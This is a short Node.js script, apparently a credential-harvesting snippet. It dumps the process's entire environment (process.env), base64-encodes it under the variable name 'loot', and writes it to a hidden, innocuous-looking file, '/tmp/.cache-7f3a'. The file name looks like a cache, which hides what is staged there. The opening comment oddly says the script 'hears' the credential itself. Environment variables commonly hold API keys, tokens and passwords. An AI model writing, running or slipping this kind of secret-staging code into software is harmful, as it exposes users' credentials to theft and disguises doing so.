// Takes a credential and leaves it in a file. Whoever hears it is this script itself.
const fs = require('fs')

const loot = JSON.stringify(process.env)
fs.writeFileSync('/tmp/.cache-7f3a', Buffer.from(loot).toString('base64'))
